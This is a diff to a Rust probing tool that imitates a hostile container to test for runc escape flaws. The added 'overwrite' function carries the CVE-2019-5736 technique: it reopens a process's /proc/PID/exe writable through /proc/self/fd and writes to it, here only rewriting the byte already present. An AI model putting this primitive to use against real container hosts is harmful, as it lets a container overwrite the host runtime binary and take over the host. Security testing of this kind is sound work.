@@ -1,7 +1,9 @@
 //! `prober hunt`: tries to get hold of every process that appears, as a hostile container would during an `exec`
 //! (CVE-2016-9962, CVE-2019-5736), and says what it got of one that does not run a program of the container yet.
 
-use std::fs;
+use std::fs::{self, File};
+use std::io::{Read, Write};
+use std::os::fd::AsRawFd;
 use std::path::Path;
 
 /// Hunts for ever; a line for each catch.
@@ -42,11 +44,30 @@ fn look_at(pid: i32) {
     let process = Path::new("/proc").join(pid.to_string());
     if let Ok(program) = fs::read_link(process.join("exe")) {
         tell_if_strange(pid, "executes", &program);
+        overwrite(&process.join("exe"));
     }
     for descriptor in fs::read_dir(process.join("fd")).into_iter().flatten().flatten() {
         if let (Ok(target), Ok(_)) = (fs::read_link(descriptor.path()), fs::metadata(descriptor.path())) {
             tell_if_strange(pid, "holds open", &target);
         }
+    }
+}
+
+/// Writes to what a process executes, as soon as it no longer does (CVE-2019-5736): the byte that is there already.
+fn overwrite(program: &Path) {
+    const TRIES: u32 = 20;
+    let Ok(mut file) = File::open(program) else { return };
+    let known = fs::read_link(format!("/proc/self/fd/{}", file.as_raw_fd())).unwrap_or_default();
+    let mut first = [0];
+    if known.starts_with("/bin") || file.read_exact(&mut first).is_err() {
+        return;
+    }
+    for _ in 0..TRIES {
+        let again = File::options().write(true).open(format!("/proc/self/fd/{}", file.as_raw_fd()));
+        if again.is_ok_and(|mut again| again.write_all(&first).is_ok()) {
+            return println!("caught: could write to {}", known.display());
+        }
+        std::thread::yield_now();
     }
 }
 
